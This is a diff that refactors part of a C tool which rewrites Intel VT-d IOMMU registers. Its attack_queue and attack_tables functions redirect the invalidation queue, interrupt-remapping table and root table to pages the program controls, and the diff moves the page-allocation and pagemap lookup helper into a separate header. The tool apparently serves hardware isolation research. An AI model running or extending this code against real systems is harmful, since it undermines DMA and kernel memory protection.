@@ -13,11 +13,10 @@
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
-#include <string.h>
 #include <sys/mman.h>
 #include <unistd.h>
+#include "own-page.h"
 
-#define PAGE 4096
 #define GCMD 0x18
 #define GSTS 0x1c
 #define RTADDR 0x20
@@ -34,12 +33,6 @@
 #define INDEX 200 /* of a remapping entry that Linux does not use here */
 
 static volatile uint8_t *regs;
-
-static void die(const char *what)
-{
-	perror(what);
-	exit(2);
-}
 
 static uint64_t get(unsigned int offset)
 {
@@ -61,23 +54,6 @@ static uint32_t get32(unsigned int offset)
 	return *(volatile uint32_t *)(regs + offset);
 }
 
-static uint64_t *page(uint64_t *physical)
-{
-	uint64_t *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
-			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
-	int fd = open("/proc/self/pagemap", O_RDONLY);
-	uint64_t entry = 0;
-
-	if (p == MAP_FAILED || fd < 0)
-		die("page");
-	memset(p, 0, PAGE);
-	if (pread(fd, &entry, 8, (uintptr_t)p / PAGE * 8) != 8 || !(entry >> 63))
-		die("pagemap");
-	close(fd);
-	*physical = (entry & ((1ull << 55) - 1)) * PAGE;
-	return p;
-}
-
 static void say(const char *what, int error_before, uint64_t head)
 {
 	printf("%s: error %d, head %" PRIu64 "\n", what, error_before, head);
@@ -92,7 +68,7 @@ static int error(void)
 static void attack_queue(uint64_t address, uint32_t apic_id)
 {
 	uint64_t iqa = get(IQA), iqt = get(IQT), irta = get(IRTA), queue_hpa, table_hpa;
-	volatile uint64_t *queue = page(&queue_hpa), *table = page(&table_hpa);
+	volatile uint64_t *queue = own_page(&queue_hpa), *table = own_page(&table_hpa);
 
 	queue[0] = 0xf;
 	queue[100] = 0;
@@ -146,7 +122,7 @@ static void set_root(uint64_t address)
 static void attack_tables(uint64_t address, unsigned int bdf)
 {
 	uint64_t rtaddr = get(RTADDR), root_hpa, table_hpa;
-	volatile uint64_t *root = page(&root_hpa), *table = page(&table_hpa);
+	volatile uint64_t *root = own_page(&root_hpa), *table = own_page(&table_hpa);
 
 	set_root(address);
 	printf("root table elsewhere\n");
